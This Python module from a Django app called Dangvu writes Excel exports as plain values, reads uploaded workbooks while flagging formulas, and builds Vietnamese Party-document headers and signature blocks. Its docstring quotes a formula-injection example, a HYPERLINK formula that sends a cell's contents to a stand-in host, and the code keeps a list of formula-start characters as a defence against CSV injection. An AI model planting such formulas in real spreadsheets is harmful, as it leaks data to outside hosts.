"""Every Excel file Dangvu writes goes through this module: each value is written as a value, never a formula.

openpyxl stores any text beginning with "=" as a live formula, so a member named `=HYPERLINK("http://x/?"&B2)`
would become a working link in the register. Here every text cell is typed as text (`data_type = "s"`), and
text beginning with a character a spreadsheet reads as the start of a formula (=, +, -, @, tab, carriage return:
the OWASP CSV-injection list) is also marked "quote prefix", as Excel marks what a user types after an
apostrophe, so editing the cell later keeps it text. Characters XML cannot hold are dropped rather than failing
the whole export. Apps build workbooks with `workbook()`, whose sheets write through `cell()`; no app imports
openpyxl's writing classes (a test checks).
"""

from __future__ import annotations

import datetime as dt
import os
import tempfile
from decimal import Decimal

from django.http import FileResponse
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Alignment, Border, Font

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
VALUE_TYPES = (str, int, float, Decimal, bool, dt.date, dt.datetime, dt.time, type(None))


def _seal(c: Cell) -> Cell:
    """Text stays text: typed as a string, and quote-prefixed when it starts like a formula."""
    if isinstance(c.value, str):
        c.data_type = "s"
        if c.value.startswith(FORMULA_START):
            c.quotePrefix = True
    return c


def _clean(value):
    if not isinstance(value, VALUE_TYPES):
        value = str(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def _style(c: Cell, value, font, alignment, border, number_format) -> Cell:
    if font is not None:
        c.font = font
    if alignment is not None:
        c.alignment = alignment
    if border is not None:
        c.border = border
    if number_format is not None:
        c.number_format = number_format
    elif isinstance(value, dt.datetime):
        c.number_format = "DD/MM/YYYY HH:MM:SS"
    elif isinstance(value, dt.date):
        c.number_format = "DD/MM/YYYY"
    return c


def cell(ws, value=None, *, font: Font | None = None, alignment: Alignment | None = None,
         border: Border | None = None, number_format: str | None = None) -> Cell:  # fmt: skip
    """A detached cell holding `value` as data (see the module's docstring), styled; `ws.append` places it."""
    ws = ws.ws if isinstance(ws, Sheet) else ws
    value = _clean(value)
    return _style(_seal(Cell(ws, row=1, column=1, value=value)), value, font, alignment, border, number_format)


LINE_PT = 15.75  # one line of 12 pt Times New Roman, in points
CHARS_PER_UNIT = 1.05  # characters of 12 pt Times New Roman that fit in one unit of Excel column width


def lines_needed(values, widths) -> int:
    """How many printed lines the tallest cell of a row needs: its own line breaks, and the wrapping of each line
    in its column's width."""
    most = 1
    for v, w in zip(values, widths, strict=False):
        v = getattr(v, "value", v)
        if not isinstance(v, str) or not v:
            continue
        per_line = max(1, int((w or 8) * CHARS_PER_UNIT))
        n = sum(max(1, -(-len(line) // per_line)) for line in v.split("\n"))
        most = max(most, n)
    return most


class Sheet:
    """A worksheet that writes only through `cell()`; reading and styling go to the worksheet itself. It counts
    the rows it appends, so it can give a row the height its wrapped text needs (Excel and LibreOffice do not
    compute it for a file they open) and merge cells across a row."""

    def __init__(self, ws):
        self.ws = ws
        self.rows = 0
        self.column_widths: list[float] = []

    def cell_of(self, value=None, **style) -> Cell:
        return cell(self.ws, value, **style)

    def append(self, values=(), *, fit: bool = False, height: float | None = None) -> int:
        """Append a row (values or cells); `fit`: as tall as its wrapped text needs. Returns its number."""
        self.rows += 1
        if fit and self.column_widths:
            height = max(height or 0, lines_needed(values, self.column_widths) * LINE_PT + 2)
        if height:
            self.ws.row_dimensions[self.rows].height = height
        self.ws.append([v if isinstance(v, Cell) else cell(self.ws, v) for v in values])
        return self.rows

    def merge(self, row: int, first: int, last: int) -> None:
        """Merge columns first..last (1-based) of a row (allowed in write-only sheets too)."""
        if last > first:
            self.ws.merged_cells.add(f"{column_letter(first - 1)}{row}:{column_letter(last - 1)}{row}")

    def put(self, row: int, column: int, value, **style) -> Cell:
        """Write one value at (row, column) of a normal (not write-only) sheet."""
        value = _clean(value)
        target = self.ws.cell(row=row, column=column)
        target.value = value
        return _style(_seal(target), value, style.get("font"), style.get("alignment"), style.get("border"),
                      style.get("number_format"))  # fmt: skip

    def style_last_row(self, *, font: Font | None = None, alignment: Alignment | None = None) -> None:
        for c in self.ws[self.ws.max_row]:
            if font is not None:
                c.font = font
            if alignment is not None:
                c.alignment = alignment

    def widths(self, widths) -> None:
        """Column widths from A on."""
        from openpyxl.utils import get_column_letter

        self.column_widths = list(widths)
        for i, w in enumerate(self.column_widths, start=1):
            self.ws.column_dimensions[get_column_letter(i)].width = w

    def repeat_rows(self, first: int, last: int) -> None:
        """Print these rows (the table's header) at the top of every page."""
        self.ws.print_title_rows = f"{first}:{last}"

    def __getattr__(self, name):
        return getattr(self.ws, name)

    def __getitem__(self, key):
        return self.ws[key]


_TNR = "Times New Roman"
_CENTER = Alignment(horizontal="center", vertical="center", wrap_text=True)


def title_block(sheet: Sheet, ncols: int, *, left: list[tuple[str, bool]], right: list[tuple[str, bool, bool]],
                title: str, subtitle: str = "") -> None:  # fmt: skip
    """A Party document's head across `ncols` columns, in merged cells so nothing overlaps: the issuer's lines
    on the left (text, bold), the right-hand lines (text, bold, underlined: "ĐẢNG CỘNG SẢN VIỆT NAM", a form
    code), then the title and a subtitle across the whole width."""
    half = max(1, ncols * 2 // 5)
    for i in range(max(len(left), len(right))):
        lt, lb = left[i] if i < len(left) else ("", False)
        rt, rb, ru = right[i] if i < len(right) else ("", False, False)
        row = [cell(sheet, lt, font=Font(name=_TNR, size=12, bold=lb), alignment=_CENTER)]
        row += [None] * (ncols - half - 1)
        row += [cell(sheet, rt, font=Font(name=_TNR, size=12, bold=rb, underline="single" if ru else None),
                     alignment=_CENTER)]  # fmt: skip
        n = sheet.append(row, height=LINE_PT + 2)
        sheet.merge(n, 1, half)
        sheet.merge(n, ncols - half + 1, ncols)
    sheet.append([])
    n = sheet.append([cell(sheet, title, font=Font(name=_TNR, size=14, bold=True), alignment=_CENTER)],
                     height=LINE_PT + 6)  # fmt: skip
    sheet.merge(n, 1, ncols)
    if subtitle:
        n = sheet.append([cell(sheet, subtitle, font=Font(name=_TNR, size=12, italic=True), alignment=_CENTER)])
        sheet.merge(n, 1, ncols)
    sheet.append([])


def signature(sheet: Sheet, ncols: int, *, place_date: str, left_title: str, right_lines: list[str],
              right_name: str = "", left_name: str = "") -> None:  # fmt: skip
    """The signature block under a table: the place-and-date line, then "Người lập" on the left and the signer's
    title on the right, room to sign, and the names on one line."""
    half = max(1, ncols * 2 // 5)
    gap = ncols - 2 * half

    def pair(lt: str, rt: str, *, bold=True, italic=False) -> None:
        font = Font(name=_TNR, size=12, bold=bold, italic=italic)
        row = [cell(sheet, lt, font=font, alignment=_CENTER)] + [None] * (half - 1 + gap)
        row += [cell(sheet, rt, font=font, alignment=_CENTER)]
        n = sheet.append(row, height=LINE_PT + 2)
        sheet.merge(n, 1, half)
        sheet.merge(n, ncols - half + 1, ncols)

    sheet.append([])
    pair("", place_date, bold=False, italic=True)
    titles = [left_title] if left_title else []
    lines_left = [""] * max(0, len(right_lines) - len(titles)) + titles
    for lt, rt in zip(lines_left, right_lines, strict=False):
        pair(lt, rt)
    for _ in range(3):
        sheet.append([])
    pair(left_name, right_name)


def _print_setup(ws, landscape: bool) -> None:
    """A4, landscape by default, every column across one page width, page numbers at the foot; set before the
    first row (a write-only sheet writes its setup with its first row)."""
    ws.page_setup.paperSize = 9  # A4
    ws.page_setup.orientation = "landscape" if landscape else "portrait"
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.page_margins.left = ws.page_margins.right = 0.5
    ws.page_margins.top, ws.page_margins.bottom = 0.6, 0.7
    ws.page_margins.footer = 0.3
    ws.print_options.horizontalCentered = True
    ws.oddFooter.center.text = "Trang &P/&N"
    ws.oddFooter.center.size = 10


class Book:
    """A workbook whose sheets are `Sheet`s, each set up to print (A4, across one page width, page numbers)."""

    def __init__(self, *, write_only: bool = False):
        self.wb = Workbook(write_only=write_only)
        self._first = None if write_only else self.wb.active

    def sheet(self, title: str, *, landscape: bool = True) -> Sheet:
        """The first sheet (renamed) the first time on a normal workbook, else a new sheet."""
        if self._first is not None:
            ws, self._first = self._first, None
            ws.title = title[:31]
        else:
            ws = self.wb.create_sheet(title[:31])
        _print_setup(ws, landscape)
        return Sheet(ws)

    def save(self, target) -> None:
        self.wb.save(target)


def workbook(*, write_only: bool = False) -> Book:
    """A new workbook for an export. Write-only workbooks stream rows to disk (flat memory for any size)."""
    return Book(write_only=write_only)


def save_temp(book: Book):
    """The workbook written to an open temporary file, rewound for reading."""
    tmp = tempfile.NamedTemporaryFile(suffix=".xlsx")  # noqa: SIM115 (the response closes it)
    book.save(tmp)
    tmp.seek(0)
    return tmp


def response(tmp, filename: str) -> FileResponse:
    return FileResponse(tmp, as_attachment=True, filename=filename, content_type=XLSX)


# --- reading ------------------------------------------------------------------------------------------------

ERR_FORMULA = "Ô chứa công thức («{formula}»), không nhận; hãy dán giá trị (Dán đặc biệt → Giá trị) rồi nhập lại."
ERR_TOO_MANY_ROWS = "Tệp có hơn {limit} dòng dữ liệu; hãy chia thành nhiều tệp nhỏ hơn."


def open_workbook(source):
    """An uploaded workbook opened for streaming, after its ZIP container passed `files.check_zip` (DomainError
    otherwise). Formulas are read as formulas, so that importers can refuse them (`rows`)."""
    from openpyxl import load_workbook

    from .files import check_zip

    if isinstance(source, str | os.PathLike):
        with open(source, "rb") as fh:
            check_zip(fh)
    else:
        check_zip(source)
    return load_workbook(source, read_only=True, data_only=False)


def column_letter(index0: int) -> str:
    """"A" for 0, "B" for 1… as the spreadsheet labels columns."""
    from openpyxl.utils import get_column_letter

    return get_column_letter(index0 + 1)


def row_limit() -> int:
    from django.conf import settings

    return settings.DANGVU_IMPORT_MAX_ROWS


def too_many_rows():
    """The refusal for a file over the row limit (DANGVU_IMPORT_MAX_ROWS)."""
    from .errors import DomainError

    return DomainError(ERR_TOO_MANY_ROWS.format(limit=f"{row_limit():,}".replace(",", ".")), field="file")


def rows(ws, max_col: int | None = None):
    """(row number, values, {column index: formula text}) for each row of a read-only sheet (its first `max_col`
    columns: a sheet that claims 16,384 columns is not read cell by cell; a narrower sheet keeps its own width)."""
    if max_col is not None:
        max_col = min(max_col, ws.max_column or max_col)
    for n, row in enumerate(ws.iter_rows(max_col=max_col), start=1):
        values, formulas = [], {}
        for j, c in enumerate(row):
            v = getattr(c, "value", None)
            if getattr(c, "data_type", None) == "f":
                formulas[j] = str(v)[:60]
                v = None
            values.append(v)
        yield n, tuple(values), formulas
